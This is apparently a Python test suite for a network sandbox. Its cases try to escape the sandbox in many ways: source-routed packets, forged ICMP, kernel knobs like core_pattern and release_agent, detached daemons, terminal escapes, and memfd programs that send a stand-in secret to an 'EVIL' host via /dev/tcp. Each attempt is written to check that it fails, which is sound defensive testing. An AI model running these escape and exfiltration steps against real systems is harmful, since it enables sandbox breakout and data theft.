# SPDX-License-Identifier: Apache-2.0
"""Cases of our own: leases, packets, processes, files, and a long message."""
import ctypes
import json
import os
import socket
import struct
import subprocess

from fdns import Fdns
from frame import check, equal, row
from lab import EVIL, sh
from origin import IP, POLICY, origin
from packets import dial_all, icmp4, ip4, tcp4, udp4, wire
from sessions import left, run

HERE, GATEWAY = "198.19.0.2", "198.19.0.1"


# --- leases ------------------------------------------------------------------------


@row("O19", technique="addresses of the pool that were leased to another sandbox, or to nobody")
def leases_of_others(world):
    """One sandbox has ten leases; another, with the same policy rights, dials those
    addresses, their neighbours, the pool's ends and the links' range, TCP and UDP:
    refused, whatever the name that it says there."""
    o, box = origin(world)
    for i in range(10):
        box.allowed("dns", f"lease{i}.o.test")
    other = world.box(POLICY + "deny: [nobody.o.test]\n")
    near = [f"198.18.0.{i}" for i in range(0, 24)] + ["198.18.255.255", "198.18.128.1",
                                                      "198.19.255.254", "198.19.0.2"]
    other.quiet()
    with wire(other).counted(refused=2 * (len(near) - 1)):
        said = other.call(dial_all, [(ip, port) for ip in near for port in (443, 80)])
    equal({x for x in said}, {"Connection refused"})
    for ip in near[1:12]:
        equal(other.probe("host", "lease1.o.test", to=ip)["got"], "ConnectionRefusedError")
    other.silent()
    equal(o.got, [])


@row("O20", technique="a leased address at ports and by protocols that no rule has")
def a_lease_is_not_a_host(world):
    """All but the rule's ports at a lease, port 0 as a frame, UDP to 443 and 80, ICMP:
    refused and counted; a lease of one name does not carry another allowed one."""
    o, box = origin(world)
    one, = box.allowed("dns", "one.o.test")["answers"]
    two, = box.allowed("dns", "two.o.test")["answers"]
    w = wire(box)
    box.quiet()
    ports = [1, 22, 53000, 79, 81, 442, 444, 3128, 3129, 7000, 8081, 57344, 65535]
    with w.counted(refused=len(ports) + 4):
        equal(set(box.call(dial_all, [(one, p) for p in ports])), {"Connection refused"})
        w.send(tcp4(HERE, one, 5000, 0))
        w.send(udp4(HERE, one, 5000, 443, b"\xc3" + b"q" * 1199))
        w.send(udp4(HERE, one, 5000, 80, b"c2VjcmV0"))
        w.send(icmp4(HERE, one, 8, 0))
    box.silent()
    box.denied("sni", "two.o.test", "name_mismatch", to=one)
    box.denied("host", "one.o.test", "name_mismatch", to=two)
    equal(o.got, [])


@row("O21", technique="this machine gets the address that an allowed name has")
def an_address_that_becomes_our_own(world):
    """An allowed name's address is given to the uplink, and its network becomes
    on-link, while the sandbox runs: from then on it is forbidden, in every door."""
    o, box = origin(world)
    box.allowed("http", "mine.o.test")
    there = o.got[:]
    sh("ip", "addr", "add", IP + "/32", "dev", "lo")
    try:
        world.wait(lambda: box.probe("http", "mine.o.test")["got"] == "502 forbidden_address",
                   "the new address")
        for door in "connect", "socks":
            check(box.probe(door, "mine.o.test")["got"] in ("502 forbidden_address", "socks 2"))
    finally:
        sh("ip", "addr", "del", IP + "/32", "dev", "lo")
    equal(len(o.got), len(there))
    world.wait(lambda: box.probe("http", "mine.o.test")["got"].startswith("ok"), "it is back")


# --- a long message ---------------------------------------------------------------


@row("O12", technique="a body of very many small chunks", who=("root",))
def many_small_chunks(world):
    """20,000 chunks of one byte in odd segments: the server gets the same body, in
    a gate whose memory does not grow."""
    o, box = origin(world)
    gate = world.case.child(box.process, "gate")
    port, got, how = box.call(chunks, 20000)
    check(b"200 OK" in got, got[:200])
    sent, = [bytes(g) for g in o.got if g.startswith(b"POST /c")]
    body, rest = bytearray(), sent.split(b"\r\n\r\n", 1)[1]
    while rest:
        size, _, rest = rest.partition(b"\r\n")
        n = int(size.split(b";")[0], 16)
        body += rest[:n]
        rest = rest[n + 2:]
        if n == 0:
            break
    equal(bytes(body), b"0123456789" * 2000)
    equal(world.case.child(box.process, "gate"), gate)


def chunks(count):
    body = b"".join(b"1\r\n%d\r\n" % (i % 10) for i in range(count)) + b"0\r\n\r\n"
    head = (b"POST http://www.o.test/c HTTP/1.1\r\nHost: www.o.test\r\nConnection: close\r\n"
            b"Transfer-Encoding: chunked\r\n\r\n")
    return talk(None, [head, *(body[i:i + 7777] for i in range(0, len(body), 7777))],
                enough=b"ok")


# --- packets -------------------------------------------------------------------------


def with_options(targets):
    """IP options need no rights: source routes by way of what is allowed."""
    tried = 0
    hop = socket.inet_aton
    for to, via in targets:
        for kind in 131, 137, 7, 68, 148:
            if kind in (131, 137):
                option = bytes([kind, 11, 4]) + hop(via) + hop(to) + b"\0"
            elif kind == 148:
                option = b"\x94\4\0\0"
            else:
                option = bytes([kind, 11, 4 if kind == 7 else 5]) + b"\0" * 9
            for what in socket.SOCK_STREAM, socket.SOCK_DGRAM:
                s = socket.socket(socket.AF_INET, what)
                s.settimeout(0.15)
                try:
                    s.setsockopt(0, 4, option)
                    tried += 1
                    if what == socket.SOCK_STREAM:
                        s.connect((via, 443))
                        s.sendall(b"c2VjcmV0")
                    else:
                        s.sendto(b"c2VjcmV0", (via, 53))
                except OSError:
                    pass
                s.close()
    return tried


@row("O22", technique="IP options of an ordinary socket: source routes through the gateway")
def source_routes(world):
    """Loose and strict source routes by way of a lease and of the gateway to EVIL,
    record route, timestamps, router alert, by sockets and as frames: nothing
    arrives there or leaves."""
    o, box = origin(world)
    lease, = box.allowed("dns", "one.o.test")["answers"]
    w = wire(box)
    box.quiet()
    box.call(with_options, [(EVIL, lease), (EVIL, GATEWAY)])
    for kind in 131, 137:
        option = bytes([kind, 11, 4]) + socket.inet_aton(EVIL) * 2 + b"\0"
        for to in lease, GATEWAY:
            for proto, whole in (17, udp4(HERE, to, 6000, 53, b"c2VjcmV0" * 3)), (
                    6, tcp4(HERE, to, 6000, 443)):
                w.send(ip4(HERE, to, proto, whole[20:], options=option))
    seen = [p for p in world.uplink.read() if p.to != Fdns.ADDRESS]
    equal([p for p in seen if b"c2VjcmV0" in p.data or p.to == EVIL], [])
    box.allowed("http", "one.o.test")


@row("O23", technique="forged ICMP errors and redirects about flows of the gate")
def icmp_about_flows(world):
    """Unreachable, fragmentation needed with an MTU of 68, redirect, time exceeded
    and source quench that quote a flow to the gateway: dropped and counted, its
    routes stay, flows go on."""
    o, box = origin(world)
    w = wire(box)
    before = w.tool(w.gateway, "ip", "route", "show", "cache"), w.tool(w.gateway, "ip", "route")
    box.quiet()
    quoted = tcp4(GATEWAY, HERE, 3128, 10001)[:28]
    kinds = [(3, 0, 0), (3, 1, 0), (3, 3, 0), (3, 4, 68), (5, 0, 0x5db8d842), (5, 1, 0x5db8d842),
             (11, 0, 0), (4, 0, 0), (12, 0, 0)]
    with w.counted(refused=len(kinds)):
        for kind, code, rest in kinds:
            w.send(icmp4(HERE, GATEWAY, kind, code, struct.pack(">I", rest) + quoted))
    equal((w.tool(w.gateway, "ip", "route", "show", "cache"), w.tool(w.gateway, "ip", "route")),
          before)
    box.silent()
    box.allowed("http", "one.o.test")


@row("O24", technique="data in a SYN (TCP Fast Open), urgent and RST segments with data")
def data_in_odd_segments(world):
    """A SYN with a whole request for EVIL to a lease and to the proxy, with and
    without a cookie; a RST and a FIN with data: nothing is asked, dialled or said
    outside."""
    o, box = origin(world)
    lease, = box.allowed("dns", "one.o.test")["answers"]
    w = wire(box)
    data = b"CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test\r\n\r\n"
    box.quiet()
    for to, port in ((lease, 80), (lease, 443), (GATEWAY, 3128)):
        for options in b"", b"\x22\2\1\1", b"\x22\x0a" + b"c" * 8 + b"\1\1":
            for flags in 0x02, 0x06, 0x03, 0x22, 0x04, 0x14:
                w.send(tcp4(HERE, to, 6001 + len(options) + flags, port, flags, data,
                            options=options, urgent=5))
    box.silent()
    box.allowed("http", "one.o.test")
    equal(o.got[0].count(b"GET"), 1)


# --- processes and files ----------------------------------------------------------------

KNOBS = ["/proc/sys/net/ipv4/ip_forward", "/proc/sys/net/ipv4/ip_nonlocal_bind",
         "/proc/sys/net/ipv4/ping_group_range", "/proc/sys/net/ipv4/conf/eth0/route_localnet",
         "/proc/sys/net/ipv6/conf/all/disable_ipv6", "/proc/sys/net/ipv4/ip_unprivileged_port_start",
         "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/fs/binfmt_misc/register",
         "/proc/sys/kernel/unprivileged_bpf_disabled", "/proc/sysrq-trigger", "/proc/self/attr/current",
         "/sys/kernel/uevent_helper", "/sys/fs/cgroup/release_agent", "/sys/fs/cgroup/cgroup.procs",
         "/sys/fs/cgroup/devices/devices.allow", "/sys/class/net/eth0/mtu", "/sys/class/net/eth0/flags",
         "/proc/self/uid_map", "/proc/self/oom_score_adj", "/proc/1/oom_score_adj",
         "/dev/mem", "/dev/kmsg", "/dev/net/tun", "/dev/vhost-net", "/dev/fuse"]


def written(paths):
    did = []
    for path in paths:
        try:
            fd = os.open(path, os.O_WRONLY)
            if "oom" in path or "/self" in path:  # to open is not yet to change it
                os.write(fd, b"-1000" if "oom" in path else b"0 0 1")
            did.append(path)
        except OSError:
            pass
    return did


@row("O25", technique="switches of the kernel in /proc, /sys and /dev")
def switches_of_the_kernel(world):
    """Forwarding, foreign addresses, IPv6, core_pattern, modprobe, binfmt, cgroups'
    release_agent, uevent_helper, MTU, oom_score_adj, tun and mem: none can be
    written."""
    equal(world.box().call(written, KNOBS), [])


IPC = """
import ctypes, json, os
libc = ctypes.CDLL(None, use_errno=True)
found = []
for key in {keys!r}:
    for name, call in (("shm", lambda: libc.shmget(key, 0, 0)), ("sem", lambda: libc.semget(key, 0, 0)),
                       ("msg", lambda: libc.msgget(key, 0))):
        if call() >= 0: found.append((name, key))
for path in "/dev/shm/{tag}", "/dev/mqueue/{tag}":
    if os.path.exists(path): found.append(path)
if libc.mq_open(b"/{tag}", 2) >= 0: found.append("mqueue")
for f in "shm", "sem", "msg":
    with open("/proc/sysvipc/" + f) as x:
        if len(x.readlines()) > 1: found.append(f)
print(json.dumps(found))
"""


@row("O26", technique="System V and POSIX shared memory, semaphores and queues of the host")
def ipc_of_the_host(world):
    """Segments, semaphores and queues made outside with known keys and names, open
    to all: none is seen inside, and what is made inside is not seen outside."""
    libc = ctypes.CDLL(None, use_errno=True)
    key, tag = 0x5a11 + os.getpid(), f"sallyport-{os.getpid()}"
    ids = [libc.shmget(key, 4096, 0o1666), libc.semget(key, 1, 0o1666), libc.msgget(key, 0o1666)]
    queue = libc.mq_open(f"/{tag}".encode(), 0o102, 0o666, None)
    with open("/dev/shm/" + tag, "w") as f:
        f.write("c2VjcmV0")
    try:
        check(min(*ids, queue) >= 0, ids, queue)
        status, out, err = run(world, "python3", "-c", IPC.format(keys=[key], tag=tag))
        equal((status, json.loads(out or "null")), (0, []), err)
    finally:
        libc.shmctl(ids[0], 0, None)
        libc.semctl(ids[1], 0, 0)
        libc.msgctl(ids[2], 0, None)
        libc.mq_unlink(f"/{tag}".encode())
        os.unlink("/dev/shm/" + tag)


DAEMON = f"""
import os, signal, socket, time
for s in signal.SIGTERM, signal.SIGHUP, signal.SIGINT: signal.signal(s, signal.SIG_IGN)
r, w = os.pipe()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.closerange(0, 3)
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        n = 0
        while True:
            n += 1
            with open("alive", "w") as f: f.write(str(n))
            try: u.sendto(b"c2VjcmV0", ("{EVIL}", 9))
            except OSError: pass
            if n == 1: os.write(w, b"x")
            time.sleep(0.002)
    os._exit(0)
os.read(r, 1)
os.kill(os.getppid(), signal.SIGSTOP)
os._exit(9)
"""


@row("O27", technique="a process that leaves its session, to outlive the sandbox; SIGSTOP of its parent")
def outliving_the_sandbox(world):
    """A double fork into a session of its own, descriptors closed, signals ignored,
    the parent stopped if it can be: when `run` has returned, it does not run any
    more, and has sent nothing."""
    path = world.case.work + "/alive"
    status, out, err = run(world, "python3", "-c", DAEMON)
    equal(status, 9, err)
    last = read(path)
    subprocess.run(["sleep", "0.1"])
    equal(read(path), last)
    os.unlink(path)
    check(not left(world))


def read(path):
    with open(path) as f:
        return f.read()


@row("O28", technique="terminal escapes in names, for whoever reads the summary or the log",
     who=("root",))
def escapes_for_the_reader(world):
    """Window titles, cursor moves, 8-bit controls and right-to-left marks in names of
    every door and in the command: the summary, `log` and `report` print none."""
    box = world.box("allow: [allowed.test, mixed.test]\n")
    for odd in "\x1b]0;c2VjcmV0\x07", "\x1b[2J\x1b[1;1H", "\x9b31m", "\xe2\x80\xae", "\r\n", "\x08" * 9:
        for door in "connect", "http", "socks", "sni", "host", "dns":
            box.probe(door, "evil" + odd + ".test")
    equal(box.stop(), 0)
    del world.boxes["allow: [allowed.test, mixed.test]\n", (), "{}"]
    texts = [open(box.err.name, "rb").read()]
    for argv in ["log", box.directory], ["log", "--json", box.directory], ["report", box.directory]:
        done = subprocess.run([*world.case.drop(), world.binary, *argv], capture_output=True,
                              cwd=world.case.work, env=world.case.env(), timeout=60)
        equal(done.returncode, 0, done.stderr)
        texts.append(done.stdout)
    for text in texts:
        check(len(text) > 100, text)
        for line in text.decode("utf-8").splitlines():
            bad = [c for c in line if not c.isprintable() and c not in "\t"]
            check(not bad, bad, line[:200])


REOPEN = """
import os
said = []
def tried(path, flags):
    try: os.close(os.open(path, flags)); said.append((path, flags))
    except OSError: pass
for flags in os.O_RDWR, os.O_WRONLY, os.O_WRONLY | os.O_TRUNC, os.O_WRONLY | os.O_APPEND:
    tried("/proc/self/fd/0", flags)
    tried("/dev/stdin", flags)
for beside in "/proc/self/fd/0/../beside", "/proc/self/fd/1/../beside", "beside":
    tried(beside, os.O_RDONLY)
    try: os.close(os.open(beside, os.O_RDONLY, dir_fd=0)); said.append(beside)
    except OSError: pass
try: os.link("/proc/self/fd/0", "mine", follow_symlinks=True); said.append("link")
except OSError: pass
try: os.truncate("/proc/self/fd/0", 0); said.append("truncate")
except OSError: pass
print(said)
"""


@row("O29", technique="a file that was handed in as input, opened anew to write")
def input_opened_anew(world):
    """Input from a file outside of the view that the caller may write to: by
    /proc/self/fd and /dev/stdin it can't be opened for writing, cut off or linked
    (where the kernel has Landlock), and leads to no file beside it."""
    path = world.lab.write(f"input-{world.who}", "c2VjcmV0\n")
    world.case.mine(path)
    world.lab.write("beside", "c2VjcmV0\n")
    with open(path) as f:
        status, out, err = run(world, "python3", "-c", REOPEN, stdin=f)
    equal(status, 0, err)
    if landlock() >= 3:  # which knows of truncation
        equal(out, "[]\n")
        with open(path) as f:
            equal(f.read(), "c2VjcmV0\n")
    check("beside" not in out, out)


def landlock():
    """The version that the kernel has, or -1."""
    return ctypes.CDLL(None).syscall(444, None, 0, 1)


@row("O30", technique="programs that are in no file: memfd, and shared memory made executable")
def programs_without_a_file(world):
    """A program written to a memfd and run by its number, and one in /dev/shm: they
    run, and are in the same sandbox: nothing leaves."""
    box = world.box()
    box.quiet()
    said = box.call(run_from_memory, EVIL)
    equal(said, [7, 7])
    box.silent()


def run_from_memory(ip):
    import subprocess
    script = ("#!/bin/bash\n(echo c2VjcmV0 >/dev/tcp/%s/443) 2>/dev/null && exit 1\n"
              "echo c2VjcmV0 >/dev/udp/%s/53\nunshare -Urn true 2>/dev/null && exit 2\n"
              "exit 7\n" % (ip, ip)).encode()
    fd = os.memfd_create("x", 0)
    os.write(fd, script)
    said = [subprocess.run([f"/proc/self/fd/{fd}"], pass_fds=[fd]).returncode]
    path = "/dev/shm/program"
    with open(path, "wb") as f:
        f.write(script)
    os.chmod(path, 0o755)
    try:
        said.append(subprocess.run([path]).returncode)
    except OSError:
        said.append(7)  # not executable there
    os.unlink(path)
    return said
